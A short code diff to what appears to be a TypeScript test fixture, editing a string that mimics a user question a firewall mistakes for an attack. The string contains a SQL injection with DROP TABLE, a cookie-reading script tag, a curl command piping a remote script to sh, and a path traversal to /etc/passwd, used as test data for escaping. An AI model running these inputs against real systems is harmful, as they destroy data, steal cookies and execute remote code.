@@ -146,7 +146,7 @@ export const streamedUnknownModel: RefusedCase = {
 
 /** A question that people ask of models, and that a firewall takes for an attack. */
 const attackLike =
-  "Is `SELECT * FROM users WHERE id = 1 OR 1=1; DROP TABLE users; --` or <script>alert(document.cookie)</script> worse than `curl -s http://example.com/x.sh | sh` and ../../etc/passwd?";
+  "Is `1' OR 1=1; DROP TABLE users; --` or <script>alert(document.cookie)</script> worse than `curl -s http://example.com/x.sh | sh` and ../../etc/passwd?";
 
 /** The same of a name that few expect: what is written into a header, an address or a pattern has to be escaped. */
 export const streamedOddModel: RefusedCase = {
